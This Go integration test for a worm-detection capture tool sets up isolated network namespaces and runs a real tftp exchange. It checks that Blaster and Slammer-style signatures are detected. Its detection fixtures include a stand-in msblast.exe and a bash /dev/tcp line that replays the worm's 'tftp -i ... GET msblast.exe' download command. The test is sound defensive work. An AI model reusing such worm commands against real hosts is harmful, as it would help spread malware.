package wire

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"wormsink/evidence"
	"wormsink/internal/evidencetest"
	"wormsink/internal/testutil"
	"wormsink/signatures"
)

func sh(t *testing.T, args ...string) string {
	t.Helper()
	out, err := exec.Command(args[0], args[1:]...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

// inNetns runs fn on a thread moved into the named namespace: a socket
// opened there stays in that namespace.
func inNetns(t *testing.T, name string, fn func()) {
	t.Helper()
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	orig, err := os.Open("/proc/thread-self/ns/net")
	if err != nil {
		t.Fatal(err)
	}
	defer orig.Close()
	target, err := os.Open("/run/netns/" + name)
	if err != nil {
		t.Fatal(err)
	}
	defer target.Close()
	if err := unix.Setns(int(target.Fd()), unix.CLONE_NEWNET); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := unix.Setns(int(orig.Fd()), unix.CLONE_NEWNET); err != nil {
			panic(err) // never leave a Go thread in the wrong namespace
		}
	}()
	fn()
}

// TestLiveCapture: a real tftp-hpa client in one namespace asks a real
// in.tftpd in another for msblast.exe across a veth pair; the capture on
// the server's veth names both hosts. (VLAN-tagged frames are covered by the
// crafted captures and TestFilter: this kernel may lack 8021q.)
func TestLiveCapture(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Fatal("live capture test needs root (CI runs as root): network namespaces and AF_PACKET")
	}
	tftpd := "/usr/sbin/in.tftpd"
	for _, tool := range []string{"ip", "tftp", tftpd} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s missing (make deps installs iproute2, tftp-hpa, tftpd-hpa): %v", tool, err)
		}
	}
	id := fmt.Sprintf("wsw%d", os.Getpid()%100000)
	cli, srv := id+"c", id+"s"
	sh(t, "ip", "netns", "add", cli)
	t.Cleanup(func() { exec.Command("ip", "netns", "del", cli).Run() })
	sh(t, "ip", "netns", "add", srv)
	t.Cleanup(func() { exec.Command("ip", "netns", "del", srv).Run() })
	// Both ends are created inside the namespaces: nothing touches the host's.
	sh(t, "ip", "-n", cli, "link", "add", "vc", "type", "veth", "peer", "name", "vs", "netns", srv)
	for _, c := range [][]string{
		{"ip", "-n", cli, "addr", "add", "10.69.0.1/24", "dev", "vc"},
		{"ip", "-n", srv, "addr", "add", "10.69.0.2/24", "dev", "vs"},
	} {
		sh(t, c...)
	}
	for _, ns := range []string{cli, srv} {
		for _, dev := range []string{"lo", "v" + ns[len(ns)-1:]} {
			sh(t, "ip", "-n", ns, "link", "set", dev, "up")
		}
	}

	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "msblast.exe"), []byte("wormsink stand-in, not a worm\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	server := exec.Command("ip", "netns", "exec", srv, tftpd, "-L", "-s", dir, "-a", ":69")
	if err := server.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { server.Process.Kill(); server.Wait() })

	// A store, so the test can reload a set with a new payload port.
	sigFile := filepath.Join(dir, "sigs.yaml")
	if err := os.WriteFile(sigFile, []byte("serial: 1\nsignatures:\n  - id: blaster\n    family: Blaster\n    tftp_files: [msblast.exe]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	store, err := signatures.Open(sigFile)
	if err != nil {
		t.Fatal(err)
	}
	var rec evidencetest.Recorder
	var c *Capture
	inNetns(t, srv, func() {
		var err error
		if c, err = NewCapture("vs", CaptureConfig{Sigs: store, Rec: &rec, Workers: 2, RingMB: 4, Promisc: true}); err != nil {
			t.Fatal(err)
		}
	})
	runErr := make(chan error, 1)
	go func() { runErr <- c.Serve(context.Background()) }()
	defer func() {
		if err := c.Shutdown(context.Background()); err != nil {
			t.Errorf("Shutdown: %v", err)
		}
		if err := <-runErr; !errors.Is(err, ErrCaptureClosed) {
			t.Errorf("Serve: %v, want ErrCaptureClosed", err)
		}
	}()

	// The server is ready when its socket is bound.
	waitFor(t, "in.tftpd listening", func() bool {
		out, _ := exec.Command("ip", "netns", "exec", srv, "ss", "-Hulpn", "sport", "= :69").Output()
		return strings.Contains(string(out), "in.tftpd")
	})

	for _, tc := range []struct{ client, server string }{
		{"10.69.0.1", "10.69.0.2"},
	} {
		get := exec.Command("ip", "netns", "exec", cli, "timeout", "20", "tftp", "-m", "binary", tc.server, "-c", "get", "msblast.exe")
		get.Dir = t.TempDir()
		if out, err := get.CombinedOutput(); err != nil {
			t.Fatalf("tftp get via %s: %v\n%s", tc.server, err, out)
		}
		waitFor(t, "evidence naming "+tc.client+" and "+tc.server, func() bool {
			var req, srvSeen bool
			for _, ev := range rec.Events() {
				if ev.Sig != "blaster" || ev.File != "msblast.exe" {
					continue
				}
				req = req || ev.Role == evidence.RoleRequester && ev.Host.String() == tc.client && ev.Peer.String() == tc.server && ev.DstPort == 69
				// The server's row: its port is 69, dst_port the requester's.
				srvSeen = srvSeen || ev.Role == evidence.RoleServer && ev.Host.String() == tc.server && ev.Port == 69 && ev.Peer.String() == tc.client && ev.DstPort != 69 && ev.DstPort != 0
			}
			return req && srvSeen
		})
	}

	// A reload adds a UDP payload rule on port 1434: within a second the
	// kernel filter passes that port too, and a datagram sent there by
	// bash's /dev/udp is matched.
	if err := os.WriteFile(sigFile, []byte("serial: 2\nsignatures:\n  - id: blaster\n    family: Blaster\n    tftp_files: [msblast.exe]\n"+
		"  - id: slammer-test\n    family: Test\n    payloads:\n      - proto: udp\n        port: 1434\n        contains: \"wormsink-probe\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := store.Reload(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "a source event for the new UDP rule", func() bool {
		exec.Command("ip", "netns", "exec", cli, "bash", "-c", "echo wormsink-probe >/dev/udp/10.69.0.2/1434").Run()
		for _, ev := range rec.Events() {
			if ev.Sig == "slammer-test" && ev.Role == evidence.RoleSource && ev.Host.String() == "10.69.0.1" && ev.DstPort == 1434 {
				return true
			}
		}
		time.Sleep(200 * time.Millisecond)
		return false
	})

	// A reload adds a TCP payload rule on port 4445. bash's /dev/tcp makes
	// a real connection to a listener in the server namespace and types
	// the worm's command: the kernel filter passes both directions of the
	// rule's port, the matcher sees the handshake complete, and the match
	// has proof tcp.
	if err := os.WriteFile(sigFile, []byte("serial: 3\nsignatures:\n  - id: blaster\n    family: Blaster\n    tftp_files: [msblast.exe]\n"+
		"  - id: shell-test\n    family: Test\n    payloads:\n      - proto: tcp\n        port: 4445\n        contains: \"tftp -i \"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := store.Reload(); err != nil {
		t.Fatal(err)
	}
	var ln net.Listener
	inNetns(t, srv, func() {
		var err error
		if ln, err = net.Listen("tcp", "10.69.0.2:4445"); err != nil {
			t.Fatal(err)
		}
	})
	defer ln.Close()
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			io.Copy(io.Discard, conn)
			conn.Close()
		}
	}()
	waitFor(t, "a tcp-proven source event for the TCP rule", func() bool {
		exec.Command("ip", "netns", "exec", cli, "bash", "-c", "echo 'tftp -i 10.69.0.2 GET msblast.exe' >/dev/tcp/10.69.0.2/4445").Run()
		for _, ev := range rec.Events() {
			if ev.Sig == "shell-test" && ev.Role == evidence.RoleSource && ev.Host.String() == "10.69.0.1" && ev.Proof == evidence.ProofTCP {
				return true
			}
		}
		time.Sleep(200 * time.Millisecond)
		return false
	})

	st := c.Stats()
	if st.Packets == 0 || st.Events < 3 || st.KernelPackets == 0 {
		t.Errorf("stats %+v", st)
	}
	// The kernel filter kept the data transfer (server port to client port) out.
	if st.Packets > st.KernelPackets {
		t.Errorf("read more packets (%d) than the kernel passed (%d)", st.Packets, st.KernelPackets)
	}
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	testutil.WaitFor(t, 15*time.Second, what, cond)
}
